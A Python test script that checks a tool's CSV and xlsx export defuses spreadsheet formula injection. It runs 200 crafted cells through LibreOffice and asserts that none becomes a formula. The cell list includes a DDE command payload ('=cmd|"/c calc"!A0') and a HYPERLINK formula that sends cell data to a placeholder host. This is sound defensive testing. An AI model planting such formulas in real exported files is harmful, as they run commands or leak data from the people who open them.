#!/usr/bin/python3
"""defused.py - what we write as a sheet, a spreadsheet never runs.  usage: defused.py BUILD

Does      200 nasty cells as CSV and as xlsx, written by `sekishod render`, opened by LibreOffice: no cell may be a formula, and of the xlsx
          each must be the very text that it was; the CSV must come back to us as it was.
Source    CWE-1236; OWASP CSV Injection. Full-width signs: Japanese input turns them into formulas.
Needs     libreoffice-calc (soffice). The control is a file with a formula that must be found.
"""
import itertools
import json
import os
import re
import shutil
import subprocess
import sys
import tempfile
import xml.etree.ElementTree as xml

ROOT = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
sys.path.insert(0, os.path.join(ROOT, 'tests'))
from tap import Tap  # noqa: E402

SERVER = os.path.join(os.path.abspath(sys.argv[1]), 'src/server/sekishod')
FRONTS = ('', ' ', '  ', "'", "''", '\u3000', '\u00a0', '\ufeff', '\u200b', '\t', '\r', '\n', '\r\n', " '", "' ", '"', '"\n', '\t\t', '\u3000 ', "'\t")
STARTS = ('=1+1', '+1+1', '-1+1', '@SUM(1,1)', '＝1+1', '＋1', '－1', '＠SUM(1)', '=cmd|"/c calc"!A0', '=HYPERLINK("http://x.example/?"&A1,"見る")')
NASTY = [a + b for a, b in itertools.product(FRONTS, STARTS)]
NS = {'table': 'urn:oasis:names:tc:opendocument:xmlns:table:1.0', 'text': 'urn:oasis:names:tc:opendocument:xmlns:text:1.0',
      'office': 'urn:oasis:names:tc:opendocument:xmlns:office:1.0'}


def q(ns, name):
    return '{%s}%s' % (NS[ns], name)


def render(kind, data):
    return subprocess.run([SERVER, 'render', kind], input=data, stdout=subprocess.PIPE, timeout=60, check=True).stdout


def opened(tmp, names):
    """Each file as LibreOffice sees it: the root of a flat OpenDocument sheet."""
    subprocess.run(['soffice', '--headless', '--norestore', '-env:UserInstallation=file://%s/profile' % tmp, '--convert-to', 'fods', '--outdir', tmp + '/out'] +
                   [os.path.join(tmp, n) for n in names], env={**os.environ, 'HOME': tmp}, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, timeout=60, check=True)
    return [xml.parse(os.path.join(tmp, 'out', os.path.splitext(n)[0] + '.fods')).getroot() for n in names]


def formulas(sheet):
    return [c.get(q('table', 'formula')) for c in sheet.iter(q('table', 'table-cell')) if c.get(q('table', 'formula'))]


def texts(sheet):
    """First column, rows in order, as (type, text)."""
    for row in sheet.iter(q('table', 'table-row')):
        cell = row.find(q('table', 'table-cell'))
        if cell is not None and cell.get(q('office', 'value-type')):
            yield cell.get(q('office', 'value-type')), '\n'.join(said(p) for p in cell.findall(q('text', 'p')))


def said(node):
    """Blanks and tabs are elements in OpenDocument."""
    one = {q('text', 's'): lambda n: ' ' * int(n.get(q('text', 'c'), '1')), q('text', 'tab'): lambda n: '\t', q('text', 'line-break'): lambda n: '\n'}
    return (node.text or '') + ''.join(one.get(n.tag, said)(n) + (n.tail or '') for n in node)


def main(t):
    tmp = tempfile.mkdtemp(prefix='sekisho-defused.')
    grid = {'sekisho-grid': 1, 'sheets': [{'name': 'nasty', 'columns': [{'id': '=1+1'}, {'id': 'n'}], 'rows': [[c, str(i)] for i, c in enumerate(NASTY)]}]}
    data = json.dumps(grid).encode()
    try:
        with open(tmp + '/control.csv', 'w') as f:
            f.write('a,b\r\n=1+1,x\r\n')
        for name, kind in (('a.csv', 'grid-to-csv'), ('b.xlsx', 'grid-to-xlsx')):
            with open(os.path.join(tmp, name), 'wb') as f:
                f.write(render(kind, data))
        control, csv, xlsx = opened(tmp, ['control.csv', 'a.csv', 'b.xlsx'])
        t.is_(len(NASTY), 200, 'there are 200 nasty cells')
        t.is_(formulas(control), ['of:=1+1'], 'the control: a formula in a CSV is found')
        t.is_(formulas(csv), [], 'no cell of the CSV is a formula')
        t.is_(formulas(xlsx), [], 'no cell of the xlsx is a formula')
        got = list(texts(xlsx))
        t.is_([k for k, _ in got if k != 'string'], [], 'each cell of the xlsx is text')
        want = [re.sub('\r\n|\r', '\n', c) for c in ['=1+1'] + NASTY]
        wrong = ['%r came as %r' % (a, b) for a, (_, b) in zip(want, got) if a != re.sub('\r\n|\r|_x000D_', '\n', b)]
        t.ok(len(got) == len(want) and not wrong, 'and the very text that it was, seen without an apostrophe', '%d of %d\n%s' % (len(got), len(want), '\n'.join(wrong[:20])))
        with open(tmp + '/a.csv', 'rb') as f:
            back = json.loads(render('csv-to-grid', f.read()))['sheets'][0]
        t.is_([r[0] for r in back['rows']], NASTY, 'the CSV comes back to us as it was')
    finally:
        shutil.rmtree(tmp, ignore_errors=True)


with Tap() as tap:
    main(tap)
